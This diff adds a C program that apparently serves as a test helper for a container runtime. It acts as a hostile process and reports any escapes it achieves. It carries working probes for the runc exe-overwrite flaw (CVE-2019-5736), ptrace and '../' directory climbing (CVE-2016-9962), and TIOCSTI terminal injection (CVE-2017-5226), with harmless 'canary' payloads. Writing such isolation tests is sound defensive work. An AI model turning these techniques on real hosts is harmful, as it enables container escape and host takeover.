@@ -1,0 +1,253 @@
+/* What a hostile program in a container does. Static, so that it runs in any
+ * root file system. Each attack prints a line for each thing it achieved, and
+ * nothing when it achieved nothing. */
+#define _GNU_SOURCE
+#include <ctype.h>
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/sched.h>
+#include <sched.h>
+#include <signal.h>
+#include <stdarg.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ioctl.h>
+#include <sys/ptrace.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/un.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+static void say(const char *format, ...) __attribute__((format(printf, 1, 2)));
+static void say(const char *format, ...) {
+    va_list args;
+    va_start(args, format);
+    vprintf(format, args);
+    va_end(args);
+    putchar('\n');
+    fflush(stdout);
+}
+
+/* calls f for each process but this one, up to four levels below a number */
+static void each_process(void (*f)(int pid, const char *arg), const char *arg) {
+    DIR *d = opendir("/proc");
+    struct dirent *e;
+    while (d && (e = readdir(d))) {
+        int pid = atoi(e->d_name);
+        if (pid > 0 && pid != getpid()) f(pid, arg);
+    }
+    if (d) closedir(d);
+}
+
+/* CVE-2019-5736: holds the program of each process and writes to it as soon as
+ * nobody executes it any more. */
+static int held[512], holds;
+
+static void hold_exe(int pid, const char *arg) {
+    char path[64];
+    (void)arg;
+    snprintf(path, sizeof path, "/proc/%d/exe", pid);
+    int fd = open(path, O_RDONLY | O_CLOEXEC);
+    if (fd < 0) return;
+    struct stat new, old;
+    fstat(fd, &new);
+    for (int i = 0; i < holds; i++)
+        if (!fstat(held[i], &old) && old.st_dev == new.st_dev && old.st_ino == new.st_ino) {
+            close(fd);
+            return;
+        }
+    if (holds == sizeof held / sizeof *held) {
+        close(fd);
+        return;
+    }
+    char target[256];
+    ssize_t n = readlink(path, target, sizeof target - 1);
+    say("holds %.*s", n < 0 ? 0 : (int)n, target);
+    held[holds++] = fd;
+}
+
+static void write_exes(void) {
+    say("ready");
+    int self = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
+    if (self >= 0) held[holds++] = self;
+    for (;;) {
+        each_process(hold_exe, NULL);
+        for (int i = 0; i < holds; i++) {
+            char path[64];
+            snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
+            int fd = open(path, O_WRONLY | O_CLOEXEC);
+            if (fd < 0) continue;
+            if (write(fd, "canary", 6) == 6) say("wrote");
+            close(fd);
+        }
+    }
+}
+
+/* prints what is at path as seen from a directory that may lie outside */
+static void climb(int dir, const char *path, const char *from) {
+    char climbing[4096], text[64];
+    snprintf(climbing, sizeof climbing, "../../../../../../../../../../../../%s", path);
+    int fd = openat(dir, climbing, O_RDONLY | O_CLOEXEC);
+    if (fd < 0) return;
+    ssize_t n = read(fd, text, sizeof text);
+    if (n > 0) say("reached %.*s from %s", (int)n, text, from);
+    close(fd);
+}
+
+/* tries each directory that a process has open */
+static void climb_from(int pid, const char *path) {
+    char dir[64], name[400];
+    snprintf(dir, sizeof dir, "/proc/%d/fd", pid);
+    DIR *d = opendir(dir);
+    struct dirent *e;
+    while (d && (e = readdir(d))) {
+        snprintf(name, sizeof name, "%s/%s", dir, e->d_name);
+        int fd = open(name, O_PATH | O_DIRECTORY | O_CLOEXEC);
+        if (fd < 0) continue;
+        climb(fd, path, "a descriptor");
+        close(fd);
+    }
+    if (d) closedir(d);
+    const char *links[] = {"cwd", "root"};
+    for (int i = 0; i < 2; i++) {
+        snprintf(name, sizeof name, "/proc/%d/%s", pid, links[i]);
+        int fd = open(name, O_PATH | O_DIRECTORY | O_CLOEXEC);
+        if (fd < 0) continue;
+        climb(fd, path, links[i]);
+        close(fd);
+    }
+}
+
+/* CVE-2016-9962: traces and looks into whatever process appears. The tracer is
+ * a child, whose end lets the process go. */
+static void trace(int pid, const char *path) {
+    pid_t child = fork();
+    if (child > 0) waitpid(child, NULL, 0);
+    if (child) return;
+    climb_from(pid, path);
+    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
+        char name[64], exe[256];
+        snprintf(name, sizeof name, "/proc/%d/exe", pid);
+        ssize_t n = readlink(name, exe, sizeof exe);
+        if (n > 0) say("traced %.*s", (int)n, exe); /* else it has just ended */
+        climb_from(pid, path);
+    }
+    _exit(0);
+}
+
+static int list_descriptors(void) {
+    DIR *d = opendir("/proc/self/fd");
+    struct dirent *e;
+    if (!d) return 1;
+    while ((e = readdir(d)))
+        if (isdigit(e->d_name[0]) && atoi(e->d_name) != dirfd(d)) say("%s", e->d_name);
+    return 0;
+}
+
+static int own_capabilities(void) {
+    char line[256];
+    FILE *f = fopen("/proc/self/status", "r");
+    while (f && fgets(line, sizeof line, f))
+        if (!strncmp(line, "Cap", 3)) printf("%s", line);
+    return f == NULL;
+}
+
+static int connect_abstract(const char *name) {
+    struct sockaddr_un to = {.sun_family = AF_UNIX};
+    int s = socket(AF_UNIX, SOCK_STREAM, 0);
+    strncpy(to.sun_path + 1, name, sizeof to.sun_path - 2);
+    if (connect(s, (struct sockaddr *)&to, (socklen_t)(sizeof to.sun_family + 1 + strlen(name)))) return 1;
+    say("connected");
+    return 0;
+}
+
+/* CVE-2017-5226: types into the terminal on stdin, or the controlling one */
+static int push(const char *text) {
+    int fds[] = {0, 1, 2, open("/dev/tty", O_RDWR)}, done = 1;
+    for (int i = 0; i < 4; i++) {
+        const char *c;
+        for (c = text; *c && !ioctl(fds[i], TIOCSTI, c); c++)
+            ;
+        if (!*c) {
+            say("typed");
+            done = 0;
+            break;
+        }
+    }
+    for (int i = 0; i < 4; i++) {
+        char paste[] = {3}, shift[] = {6};
+        if (!ioctl(fds[i], TIOCLINUX, paste) || !ioctl(fds[i], TIOCLINUX, shift)) say("pasted");
+    }
+    return done;
+}
+
+/* who the terminal belongs to */
+static int terminal(void) {
+    int tty = open("/dev/tty", O_RDWR);
+    say("session %s, terminal %s, stdin %s", getsid(0) > 0 ? "inside" : "outside", tty < 0 ? "none" : "there",
+        isatty(0) ? ttyname(0) ? ttyname(0) : "unnamed" : "none");
+    return 0;
+}
+
+/* the families of sockets that can be had */
+static int sockets(void) {
+    int types[] = {SOCK_STREAM, SOCK_DGRAM, SOCK_RAW, SOCK_SEQPACKET, SOCK_RDM};
+    for (int family = 0; family < 64; family++)
+        for (unsigned i = 0; i < sizeof types / sizeof *types; i++) {
+            int fd = socket(family, types[i], 0);
+            if (fd < 0) continue;
+            say("%d", family);
+            close(fd);
+            break;
+        }
+    return 0;
+}
+
+/* a new namespace by each call that makes one */
+static int namespaces(void) {
+    const struct {
+        const char *name;
+        unsigned long flag;
+    } kinds[] = {{"user", CLONE_NEWUSER}, {"net", CLONE_NEWNET}, {"mnt", CLONE_NEWNS}, {"pid", CLONE_NEWPID},
+                 {"uts", CLONE_NEWUTS}, {"ipc", CLONE_NEWIPC}, {"cgroup", CLONE_NEWCGROUP},
+                 {"user+net", CLONE_NEWUSER | CLONE_NEWNET}};
+    const char *calls[] = {"unshare", "clone", "clone3"};
+    for (unsigned k = 0; k < sizeof kinds / sizeof *kinds; k++)
+        for (int call = 0; call < 3; call++) {
+            pid_t child = fork();
+            if (child == 0) {
+                struct clone_args args = {.flags = kinds[k].flag, .exit_signal = SIGCHLD};
+                long r = call == 0   ? syscall(SYS_unshare, kinds[k].flag)
+                         : call == 1 ? syscall(SYS_clone, kinds[k].flag | SIGCHLD, 0, 0, 0, 0)
+                                     : syscall(SYS_clone3, &args, sizeof args);
+                _exit(r < 0 ? 1 : 0); /* the new child ends as well */
+            }
+            int status;
+            waitpid(child, &status, 0);
+            if (status == 0) say("%s %s", calls[call], kinds[k].name);
+        }
+    return 0;
+}
+
+int main(int argc, char **argv) {
+    const char *what = argc > 1 ? argv[1] : "", *arg = argc > 2 ? argv[2] : "";
+    if (!strcmp(what, "write-exes")) write_exes();
+    if (!strcmp(what, "climb")) return climb_from(getpid(), arg), 0;
+    if (!strcmp(what, "trace-all"))
+        for (say("ready");;) each_process(trace, arg);
+    if (!strcmp(what, "descriptors")) return list_descriptors();
+    if (!strcmp(what, "capabilities")) return own_capabilities();
+    if (!strcmp(what, "connect")) return connect_abstract(arg);
+    if (!strcmp(what, "push")) return push(arg);
+    if (!strcmp(what, "terminal")) return terminal();
+    if (!strcmp(what, "sockets")) return sockets();
+    if (!strcmp(what, "namespaces")) return namespaces();
+    if (!strcmp(what, "sleep")) return sleep((unsigned)atoi(arg)) != 0;
+    fprintf(stderr, "attack: what is %s?\n", what);
+    return 99;
+}
